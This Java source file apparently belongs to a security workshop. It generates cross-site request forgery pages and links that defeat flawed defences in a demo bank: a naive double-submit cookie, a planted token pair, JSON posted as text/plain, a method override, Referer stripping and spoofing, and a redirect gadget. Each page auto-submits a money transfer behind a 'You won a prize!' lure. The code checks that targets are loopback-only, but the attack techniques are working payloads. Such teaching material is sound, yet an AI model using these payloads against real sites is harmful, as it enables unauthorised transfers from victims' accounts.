package workshop.attacks;

import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;

/**
 * Red team: pages and links that get past CSRF defences done wrong (ATTACK DEMO, loopback only): a naive
 * double-submit cookie, a token tied to a non-session cookie, a JSON endpoint that ignores {@code Content-Type}, a
 * method override, {@code Referer} checks, a same-site redirect gadget.
 */
public final class CsrfBypass {

    private CsrfBypass() {
    }

    /**
     * A17 · a page that, served on the bank's own site (another port), beats a naive double-submit check: it writes a
     * {@code csrf} cookie for the bank's host, then POSTs {@code to}, {@code amount} and a {@code csrf} field with
     * the same value to {@code transferUrl}.
     */
    public static String doubleSubmit(URI transferUrl, String to, long amount) {
        String chosen = "chosen-by-mallory"; // any value: the check only compares the two copies
        return cookiesThenForm(transferUrl, Map.of("csrf", chosen), transfer(to, amount, chosen));
    }

    /**
     * A17 · a page that, served on the bank's own site, plants the attacker's own {@code csrfKey} cookie in the
     * visitor's browser, then POSTs {@code to}, {@code amount} and the attacker's matching {@code csrf} token.
     */
    public static String plantedPair(URI transferUrl, String to, long amount, String csrfKey, String csrf) {
        return cookiesThenForm(transferUrl, Map.of("csrfKey", csrfKey), transfer(to, amount, csrf));
    }

    /**
     * A17 · a page that POSTs the JSON body {@code {"to": to, "amount": amount, …}} to {@code apiUrl} with a form:
     * {@code enctype="text/plain"} (a "simple" request, no CORS preflight) writes {@code name=value}, so the name and
     * the value together must make valid JSON.
     */
    public static String jsonAsTextPlain(URI apiUrl, String to, long amount) {
        // text/plain writes name + "=" + value: the "=" lands inside the string of a padding member
        String name = "{\"to\":\"" + to + "\",\"amount\":" + amount + ",\"pad\":\"";
        return page("<form id=\"f\" method=\"POST\" enctype=\"text/plain\" action=\"" + attr(Loopback.require(apiUrl)
                .toString()) + "\"><input type=\"hidden\" name=\"" + attr(name) + "\" value=\"&quot;}\"></form>"
                + "<script>document.getElementById('f').submit();</script>");
    }

    /**
     * A17 · the address of a GET that the bank's framework handles as the POST transfer of {@code amount} to
     * {@code to} (a method override): a top-level navigation to it carries a {@code SameSite=Lax} cookie.
     */
    public static URI methodOverride(URI transferUrl, String to, long amount) {
        return URI.create(Loopback.require(transferUrl) + "?to=" + query(to) + "&amount=" + amount + "&_method=POST");
    }

    /** A18 · a self-posting transfer form whose request carries no {@code Referer} header at all. */
    public static String withoutReferer(URI transferUrl, String to, long amount) {
        return page("<meta name=\"referrer\" content=\"no-referrer\">", form(transferUrl, transfer(to, amount, null)));
    }

    /**
     * A18 · a self-posting transfer form whose {@code Referer} contains {@code text} (e.g. the bank's host and port):
     * the page asks for full referrers and first puts {@code text} into its own query string.
     */
    public static String refererContaining(URI transferUrl, String to, long amount, String text) {
        return page("<meta name=\"referrer\" content=\"unsafe-url\">",
                "<script>history.replaceState(null, '', '?' + " + jsString(text) + ");</script>"
                + form(transferUrl, transfer(to, amount, null)));
    }

    /**
     * A18 · the address of the bank's client-side redirect {@code gadget} (its {@code /go?to=}) that sends the browser
     * on to {@code target}, a path of the same bank: the second navigation starts on the bank's own page.
     */
    public static URI throughRedirect(URI gadget, URI target) {
        URI t = Loopback.require(target);
        String path = t.getRawPath() + (t.getRawQuery() == null ? "" : "?" + t.getRawQuery());
        return URI.create(Loopback.require(gadget) + "?to=" + query(path));
    }

    private static Map<String, String> transfer(String to, long amount, String csrf) {
        Map<String, String> fields = new LinkedHashMap<>();
        fields.put("to", to);
        fields.put("amount", Long.toString(amount));
        if (csrf != null) {
            fields.put("csrf", csrf);
        }
        return fields;
    }

    private static String cookiesThenForm(URI action, Map<String, String> cookies, Map<String, String> fields) {
        StringBuilder script = new StringBuilder("<script>");
        // a page of 127.0.0.1 on any port writes cookies for 127.0.0.1: cookies ignore the port (RFC 6265 8.5)
        cookies.forEach((name, value) -> script.append("document.cookie = ").append(jsString(name + "=" + value
                + "; Path=/")).append(";"));
        return page(script.append("</script>") + form(action, fields));
    }

    private static String form(URI action, Map<String, String> fields) {
        StringBuilder html = new StringBuilder("<form id=\"f\" method=\"POST\" action=\"")
                .append(attr(Loopback.require(action).toString())).append("\">");
        fields.forEach((name, value) -> html.append("<input type=\"hidden\" name=\"").append(attr(name))
                .append("\" value=\"").append(attr(value)).append("\">"));
        return html.append("</form><script>document.getElementById('f').submit();</script>").toString();
    }

    private static String page(String body) {
        return page("", body);
    }

    private static String page(String head, String body) {
        return "<!doctype html><html><head><meta charset=\"utf-8\">" + head + "<title>You won a prize!</title>"
                + "</head><body>"
                + "<p>Loading your prize…</p>" + body + "</body></html>";
    }

    private static String query(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8);
    }

    private static String jsString(String s) {
        return "'" + s.replace("\\", "\\\\").replace("'", "\\'").replace("<", "\\x3c") + "'";
    }

    private static String attr(String s) {
        return s.replace("&", "&amp;").replace("\"", "&quot;").replace("<", "&lt;");
    }
}
